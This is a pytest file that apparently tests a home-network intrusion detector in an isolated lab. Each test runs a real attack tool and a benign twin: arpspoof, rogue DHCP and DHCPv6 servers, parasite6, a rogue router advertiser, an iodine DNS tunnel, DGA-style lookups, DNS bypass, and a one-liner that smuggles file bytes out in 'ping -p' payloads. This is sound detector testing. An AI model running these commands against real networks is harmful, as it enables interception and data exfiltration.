"""Attacks on the home's own network and DNS with the tools that people use for them, each with its benign twin.

A network of its own: these attacks would disturb the other tests of the lab.
"""

import shutil
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.lab.conftest import DEVICES
from tests.lab.network import OUTSIDE, ROUTER, Host, Network, Process, home_network, wait_for
from tests.lab.programs import Database, Sensor, write_config
from tests.lab.servers import SINKS

LAPTOP, GUEST = "192.168.77.10", "192.168.77.30"
MACS = {name: mac for name, mac, _ in DEVICES}
RESOLVER = "203.0.113.11"
CRITICAL, HIGH, NORMAL = 2, 1, 0
PROGRAMS = {
    "arpspoof": "dsniff", "iodine": "iodine", "iodined": "iodine", "radvd": "radvd",
    "arping": "iputils-arping", "dig": "dnsutils", "dhclient": "isc-dhcp-client", "atk6-parasite6": "thc-ipv6",
}  # fmt: skip
MISSING = sorted(
    {p for n, p in PROGRAMS.items() if not shutil.which(n, path="/usr/sbin:/sbin:/usr/bin:/bin")}
)

pytestmark = pytest.mark.skipif(bool(MISSING), reason=f"missing packages: {' '.join(MISSING)}")


def dnsmasq(host: Host, *options: str) -> Process:
    """A resolver that knows lab.example and says of all of .com that it does not exist."""
    return host.start(
        "dnsmasq", "--no-daemon", "--conf-file=/dev/null", "--no-hosts", "--no-resolv", "--bind-interfaces",
        "--interface=eth0", "--user=root", "--log-facility=-", f"--address=/lab.example/{OUTSIDE}",
        "--address=/com/", f"--dhcp-leasefile={host.network.folder / host.name}.leases", *options,
    )  # fmt: skip


class Attacked:
    """The home with a resolver and DHCP, and Sentinel on its bridge."""

    def __init__(self, network: Network, folder: Path) -> None:
        self.hosts = network.hosts
        self.network, self.folder = network, folder
        self.server = dnsmasq(self.hosts["router"], "--dhcp-range=192.168.77.100,192.168.77.150,1h")
        dnsmasq(self.hosts["internet"], f"--listen-address={RESOLVER}")
        self.hosts["internet"].start(sys.executable, SINKS, "80", "443", "9000")
        config = write_config(folder, rules={"gateway-change": {"seconds": 5, "signs": 3}})
        self.database = Database(folder / "sentinel.db")
        self.sensor = Sensor(self.hosts["watch"], "br0", folder / "sentinel.db", config)
        self.sensor.wait_state("running")
        wait_for(lambda: self.hosts["internet"].listens(443), 15, "a server in the internet")
        self.lease()
        self.hosts["laptop"].run("ping", "-c", "2", ROUTER)

    def lease(self, version: int = 4) -> None:
        """The tablet asks for an address."""
        file = f"{self.folder}/tablet{version}-{time.monotonic_ns()}"
        run = f"dhclient -{version} -1 -sf /bin/true -lf {file} -pf /dev/null"
        self.hosts["tablet"].run("sh", "-c", f"timeout 20 {run} -d eth0 & sleep 6; kill %1", check=False)

    def sh(self, host: str, command: str) -> None:
        self.hosts[host].run("sh", "-c", command, check=False, timeout=60)

    def alerts(self, rule: str) -> list[dict]:
        return self.database.alerts(rule=rule)

    def told(self, rule: str, severity: int, count: int = 1, seconds: float = 20) -> dict:
        """The incident of a rule; exactly so many."""
        found = wait_for(lambda: self.alerts(rule), seconds, f"{rule}; {self.sensor.said()}")
        assert [a["severity"] for a in found] == [severity] * count, found
        return found[0]

    def silent(self, rule: str) -> None:
        """Nothing of a rule, once everything that was sent has been looked at."""
        time.sleep(3)
        assert self.alerts(rule) == []


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    folder = tmp_path_factory.mktemp("attacks")
    network = home_network(folder, DEVICES)
    try:
        yield Attacked(network, folder)
    finally:
        network.close()


def test_arpspoof_is_told_and_a_moved_address_is_not(home: Attacked) -> None:
    for host in ("laptop", "guest"):
        home.sh(host, "ip a add 192.168.77.99/24 dev eth0; arping -U -c 3 -I eth0 192.168.77.99;"
                      "arping -A -c 3 -I eth0 192.168.77.99; ip a del 192.168.77.99/24 dev eth0")  # fmt: skip
    home.silent("arp-spoof")
    home.sh("guest", f"timeout 9 arpspoof -i eth0 -t {LAPTOP} {ROUTER}")
    alert = home.told("arp-spoof", CRITICAL)
    assert alert["peer_ip"] == ROUTER and MACS["guest"] in alert["evidence"]


def test_a_second_dhcp_server_is_told_and_one_is_not(home: Attacked) -> None:
    home.lease()
    home.silent("rogue-dhcp")
    rogue = dnsmasq(
        home.hosts["guest"], "--dhcp-range=192.168.77.200,192.168.77.250,1h", "--dhcp-authoritative"
    )
    home.lease()
    home.network.stop(rogue)
    assert home.told("rogue-dhcp", HIGH)["device_ip"] == GUEST


def dnsmasq6(home: Attacked, host: str, own: str, first: str) -> Process:
    """Gives IPv6 addresses of fd77::/64 and names itself as resolver."""
    home.hosts[host].ip("address", "replace", f"{own}/64", "dev", "eth0", "nodad")
    return home.hosts[host].start(
        "dnsmasq", "--no-daemon", "--conf-file=/dev/null", "--port=0", "--interface=eth0", "--user=root",
        "--log-facility=-", f"--dhcp-leasefile={home.folder / host}.leases6", "--dhcp-authoritative",
        f"--dhcp-range={first},{first[:-1]}f,64,1h", f"--dhcp-option=option6:dns-server,[{own}]",
    )  # fmt: skip


def test_a_second_dhcpv6_server_is_told_and_one_is_not(home: Attacked) -> None:
    before = len(home.alerts("rogue-dhcp"))
    real = dnsmasq6(home, "router", "fd77::1", "fd77::100")
    home.lease(6)
    assert b"fd77::10" in home.hosts["tablet"].run("sh", "-c", f"cat {home.folder}/tablet6-*").stdout
    time.sleep(3)
    assert len(home.alerts("rogue-dhcp")) == before
    rogue = dnsmasq6(home, "guest", "fd77::30", "fd77::200")
    home.lease(6)
    home.network.stop(rogue)
    home.network.stop(real)
    found = wait_for(lambda: home.alerts("rogue-dhcp")[before:], 20, f"DHCPv6; {home.sensor.said()}")
    assert [(a["severity"], a["port"], a["device_mac"]) for a in found] == [(HIGH, 547, MACS["guest"])]


def test_parasite6_is_told_and_a_moved_ipv6_address_is_not(home: Attacked) -> None:
    for host, address in (("laptop", "fd77::10"), ("server", "fd77::20")):
        home.hosts[host].ip("address", "replace", f"{address}/64", "dev", "eth0", "nodad")
    ask = "for n in 1 2 3 4 5 6; do ip neigh flush dev eth0; ping -6 -c 1 -W 1 {}; done"
    home.sh("laptop", ask.format("fd77::20"))
    for host in ("server", "tablet"):  # one address, first here, then there
        home.hosts[host].ip("address", "add", "fd77::99/64", "dev", "eth0", "nodad")
        home.sh("laptop", ask.format("fd77::99"))
        home.hosts[host].ip("address", "delete", "fd77::99/64", "dev", "eth0")
    home.silent("neighbor-spoof")
    parasite = home.hosts["guest"].start("atk6-parasite6", "-l", "eth0")
    try:
        time.sleep(1)
        home.sh("laptop", ask.format("fd77::20"))
        alert = home.told("neighbor-spoof", HIGH)
    finally:
        home.network.stop(parasite)
    assert alert["peer_ip"] == "fd77::20" and MACS["guest"] in alert["evidence"]


def radvd(home: Attacked, host: str, prefix: str) -> Process:
    config = home.folder / f"radvd-{host}.conf"
    config.write_text(
        "interface eth0 { AdvSendAdvert on; MinRtrAdvInterval 3; MaxRtrAdvInterval 4; "
        f"prefix {prefix} {{ }}; }};\n"
    )
    home.hosts[host].run("sysctl", "-qw", "net.ipv6.conf.all.forwarding=1")
    return home.hosts[host].start("radvd", "-n", "-m", "stderr", "-C", str(config), "-p", f"{config}.pid")


def test_a_second_router_advertisement_daemon_is_told_and_the_router_s_is_not(home: Attacked) -> None:
    real = radvd(home, "router", "2001:db8:1::/64")
    time.sleep(6)
    home.silent("rogue-ra")
    rogue = radvd(home, "guest", "2001:db8:bad::/64")
    try:
        assert MACS["guest"] in home.told("rogue-ra", HIGH)["evidence"]
    finally:
        home.network.stop(rogue)
        home.network.stop(real)


def test_iodine_is_told_and_many_names_of_a_site_are_not(home: Attacked) -> None:
    names = home.folder / "site.txt"
    names.write_text("".join(f"image-{n}.static.lab.example\n" for n in range(200)))
    home.sh("laptop", f"dig +short -f {names}")
    home.silent("dns-tunnel")
    if not Path("/dev/net/tun").exists():
        pytest.skip("iodine needs /dev/net/tun")
    options = f"-l {OUTSIDE} 10.66.0.1 t.tunnel.example"
    home.hosts["internet"].start("sh", "-c", f"exec iodined -f -c -P secret {options}")
    time.sleep(1)
    home.hosts["guest"].start("sh", "-c", f"exec iodine -f -r -P secret {OUTSIDE} t.tunnel.example")
    time.sleep(8)
    home.sh("guest", "ping -c 60 -i 0.05 -s 400 10.66.0.1")
    alert = home.told("dns-tunnel", HIGH)
    assert alert["device_ip"] == GUEST and alert["peer_name"] == "tunnel.example"


def test_made_up_names_are_told_and_a_few_mistyped_ones_are_not(home: Attacked) -> None:
    names = home.folder / "typing.txt"
    names.write_text("".join(f"gogle{'e' * n}maps.com\n" for n in range(15)))
    home.sh("laptop", f"dig +short -f {names}")
    home.silent("dga")
    names.write_text("".join(f"x{n:x}qzkvw{n * 7919 % 997}brtpl.com\n" for n in range(30)))
    home.sh("laptop", f"dig +short -f {names}")
    assert home.told("dga", HIGH)["device_ip"] == LAPTOP


def test_other_resolvers_are_told_and_the_router_s_is_not(home: Attacked) -> None:
    before = {a["device_ip"] for a in home.alerts("dns-bypass")}
    home.sh("laptop", "for n in 1 2 3 4 5; do dig +short www.lab.example; done")
    time.sleep(3)
    assert {a["device_ip"] for a in home.alerts("dns-bypass")} == before and LAPTOP not in before
    home.sh("laptop", f"dig +short www.lab.example @{RESOLVER}")
    home.sh("laptop", f"curl -k -m 3 --resolve dns.google:443:{OUTSIDE} https://dns.google/dns-query")
    found = wait_for(
        lambda: (
            (a := [a for a in home.alerts("dns-bypass") if a["device_ip"] == LAPTOP]) and len(a) == 2 and a
        ),
        20,
        "two resolvers",
    )
    assert [a["severity"] for a in found] == [NORMAL, NORMAL]


def test_a_file_sent_by_ping_is_told_and_pings_are_not(home: Attacked) -> None:
    """`ping -p` takes 16 bytes to carry: the simplest way to send a file past a firewall."""
    home.sh("laptop", f"ping -c 200 -i 0.01 {OUTSIDE}; ping -c 200 -i 0.01 -s 1400 {OUTSIDE}")
    home.silent("icmp-tunnel")
    home.sh(
        "laptop",
        "head -c 960 /dev/urandom | od -An -v -tx1 -w16 | tr -d ' ' | "
        f"while read line; do ping -c 1 -p $line {OUTSIDE}; done",
    )
    assert home.told("icmp-tunnel", HIGH)["device_ip"] == LAPTOP


def test_another_resolver_by_dhcp_is_told(home: Attacked) -> None:
    assert home.alerts("dns-change") == []
    home.network.stop(home.server)
    home.server = dnsmasq(
        home.hosts["router"], "--dhcp-range=192.168.77.100,192.168.77.150,1h", "--dhcp-option=6,203.0.113.53"
    )
    home.lease()
    assert home.told("dns-change", HIGH)["peer_ip"] == "203.0.113.53"


def test_another_router_in_its_place_is_told(home: Attacked) -> None:
    assert home.alerts("gateway-change") == []
    home.hosts["router"].ip("link", "set", "eth0", "address", "f4:f2:6d:10:20:99")
    home.sh("laptop", "ip neigh flush all; for n in 1 2 3 4 5 6 7 8; do "
                      f"curl -s -m 2 http://{OUTSIDE}/; sleep 1; done")  # fmt: skip
    alert = home.told("gateway-change", HIGH)
    assert "f4:f2:6d:10:20:99" in alert["evidence"]
